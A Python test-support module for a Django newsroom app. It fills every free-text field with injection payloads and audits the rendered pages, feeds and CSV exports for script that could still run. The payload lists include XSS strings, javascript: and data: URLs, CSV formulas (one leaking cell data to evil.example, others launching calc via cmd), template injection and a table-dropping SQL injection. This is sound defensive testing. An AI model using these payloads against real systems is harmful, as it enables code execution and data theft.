"""The hostile newsroom: every free-text field of every item holds an attack, and the checks
that a page, feed or export rendered from it neutralised the attack.

A payload goes into each field the admin would accept it in (the field's own validators
decide). Link fields get script URLs written straight to the database, as an importer or a
future bug might, so the templates are tested and not only the forms.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

from django.core.exceptions import ValidationError
from django.db import models

from newsroom.models import ExternalIdentifier
from tests.support.world import build_world

PAYLOADS = [
    '<script>alert("bd-xss-1")</script>',
    "\"><script>alert('bd-xss-2')</script>",
    "'><img src=x onerror=alert('bd-xss-3')>",
    "</script><script>alert('bd-xss-4')</script>",
    "<!--<script>alert('bd-xss-5')//",
    "</title><svg onload=alert('bd-xss-6')>",
    "<a href=\"javascript:alert('bd-xss-7')\">read more</a>",
    "javascript:alert('bd-xss-8')",
    '=HYPERLINK("https://evil.example/?leak="&A1,"bd-csv-9")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "{{ request.META }}{% debug %}",
    "' OR '1'='1'; DROP TABLE candidates_candidate; --",
    "]]></description><script>alert('bd-xss-16')</script><![CDATA[",
    "\u2028\u2029</script >\u202eevil",
    "long " * 1200 + "<script>alert('bd-xss-18')</script>",
]
URL_PAYLOADS = [
    "javascript:alert('bd-xss-url')",
    " JaVaScRiPt:alert('bd-xss-url')",
    "data:text/html,<script>alert('bd-xss-url')</script>",
    "vbscript:msgbox('bd-xss-url')",
]

# Fields that name things for the machine, not for the reader.
MACHINE_FIELDS = {("newsroom", "citation", "field_name"), ("newsroom", "source", "language")}
CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "background"}
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


def text_fields(model):
    for field in model._meta.fields:
        key = (model._meta.app_label, model._meta.model_name, field.name)
        if (
            isinstance(field, models.CharField | models.TextField)
            and not isinstance(field, models.SlugField)
            and not field.choices
            and field.editable
            and key not in MACHINE_FIELDS
        ):
            yield field


def hostile_values(model, index: int) -> dict:
    """The values of payload `index` for the free-text fields of `model`."""
    values = {}
    for field in text_fields(model):
        if isinstance(field, models.URLField):
            values[field.name] = URL_PAYLOADS[index % len(URL_PAYLOADS)] + f"#{index}"
            continue
        suffix = f" {index}" if field.unique else ""
        value = PAYLOADS[index]
        if field.max_length:
            value = value[: field.max_length - len(suffix)]
        value += suffix
        try:
            field.run_validators(value)
        except ValidationError:
            continue
        values[field.name] = value
    return values


def build_hostile_newsroom() -> dict:
    """One canonical example world per payload, every free-text field of every row holding
    that payload; returns what was filled."""
    filled = {"payloads": len(PAYLOADS), "url_payloads": len(URL_PAYLOADS), "fields": set()}
    for index in range(len(PAYLOADS)):
        world = build_world()
        items = [*world.items(), *world.citations]
        if index == 0:
            items.append(world.party)
        for item in items:
            values = hostile_values(type(item), index)
            if isinstance(item, ExternalIdentifier):
                # The one registry whose page names the database does not check (the
                # others' formats are constraints), so the payload is stored and shown.
                values["scheme"] = ExternalIdentifier.Scheme.BALLOTPEDIA
            type(item).objects.filter(pk=item.pk).update(**values)
            filled["fields"].update(f"{type(item).__name__}.{name}" for name in values)
    return filled


class Findings(list):
    """Problems found, as "address: problem" lines; `category` tells known kinds apart."""

    def __init__(self):
        super().__init__()
        self.categories = {}

    def add(self, url: str, problem: str, category: str = "other") -> None:
        line = f"{url}: {problem}"
        self.append(line)
        self.categories.setdefault(category, []).append(line)

    def of(self, category: str) -> list[str]:
        return self.categories.get(category, [])


class _HTMLAudit(HTMLParser):
    """Walks a page as a browser's tokenizer would and notes anything that could run."""

    def __init__(self, url: str, findings: Findings, category: str | None = None):
        super().__init__(convert_charrefs=True)
        self.url, self.findings, self.category = url, findings, category
        self.data_script = None
        self.data_script_text = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.add(self.url, f"event handler <{tag} {name}=...>")
            if name in URL_ATTRIBUTES and value:
                bare = re.sub(r"[\x00-\x20]", "", value).lower()
                if bare.startswith(DANGEROUS_SCHEMES):
                    self.findings.add(self.url, f"<{tag} {name}={value[:60]!r}>", "script-url")
        if tag in {"iframe", "object", "embed", "base", "frame"}:
            self.findings.add(self.url, f"<{tag}> element")
        if tag == "script":
            kind = (attributes.get("type") or "").lower()
            if kind in DATA_SCRIPT_TYPES:
                self.data_script, self.data_script_text = kind, []
            elif not (attributes.get("src") or "").startswith("/static/"):
                self.findings.add(self.url, f"executable <script {attributes}>")

    def handle_data(self, data):
        if self.data_script:
            self.data_script_text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self.data_script:
            text = "".join(self.data_script_text)
            if "<!--" in text or "</script" in text.lower():
                self.findings.add(self.url, f"{self.data_script} block can be broken out of")
            try:
                json.loads(text)
            except ValueError:
                self.findings.add(self.url, f"{self.data_script} block is not valid JSON")
            self.data_script = None


def audit_html(url: str, html: str, findings: Findings) -> None:
    audit = _HTMLAudit(url, findings)
    try:
        audit.feed(html)
        audit.close()
    except AssertionError as error:  # html.parser gives up on raw markup like "<![CDAT"
        findings.add(url, f"raw markup a browser would parse: {error}")


class _FeedFindings(Findings):
    """Findings inside a feed's HTML fields, all filed under one category."""

    def __init__(self, into: Findings):
        super().__init__()
        self.into = into

    def add(self, url: str, problem: str, category: str = "other") -> None:
        self.into.add(url, problem, "feed-html")


def audit_feed(url: str, content: bytes, findings: Findings) -> None:
    """Feed readers render titles, descriptions and content as HTML: audit them as HTML."""
    try:
        root = ElementTree.fromstring(content)
    except ElementTree.ParseError as error:
        findings.add(url, f"feed is not well-formed XML ({error})")
        return
    feed_findings = _FeedFindings(findings)
    for element in root.iter():
        name = element.tag.rsplit("}", 1)[-1]
        # RSS descriptions are HTML; in Atom, what says type="html" is.
        is_html = (name == "description" and not element.tag.startswith("{")) or element.get(
            "type"
        ) in {"html", "xhtml"}
        if element.text and is_html:
            audit_html(f"{url} <{name}>", element.text, feed_findings)
        if name == "link" and element.get("href"):
            audit_html(url, f'<a href="{element.get("href")}">', findings)


def audit_csv(url: str, text: str, findings: Findings) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(CSV_FORMULA_START) and not NUMBER.match(cell):
                findings.add(url, f"CSV cell is a formula: {cell[:40]!r}")


def audit_json(url: str, text: str, findings: Findings) -> None:
    try:
        json.loads(text)
    except ValueError as error:
        findings.add(url, f"JSON does not parse ({error})")


def audit_response(url: str, response, findings: Findings) -> None:
    """Dispatch on what the response says it is; a browser sniffs nothing (nosniff)."""
    if response.status_code >= 500:
        findings.add(url, f"status {response.status_code}")
        return
    if response.status_code != 200:
        return
    content_type = response.get("Content-Type", "").split(";")[0].strip().lower()
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode(response.charset or "utf-8", errors="replace")
    if content_type in {"text/html", "application/xhtml+xml"}:
        audit_html(url, text, findings)
    elif content_type in {"application/rss+xml", "application/atom+xml"}:
        audit_feed(url, body, findings)
    elif content_type == "text/csv":
        audit_csv(url, text, findings)
    elif content_type.endswith("json"):
        audit_json(url, text, findings)
    elif content_type in {"application/xml", "text/xml", "image/svg+xml"}:  # the favicon
        try:
            ElementTree.fromstring(body)
        except ElementTree.ParseError as error:
            findings.add(url, f"XML is not well-formed ({error})")
    elif content_type not in {"text/plain", "application/x-research-info-systems"} and not (
        content_type.startswith(("text/x-", "application/x-", "application/vnd."))
    ):
        findings.add(url, f"unexpected Content-Type {content_type!r}")
    response.audited_text = text
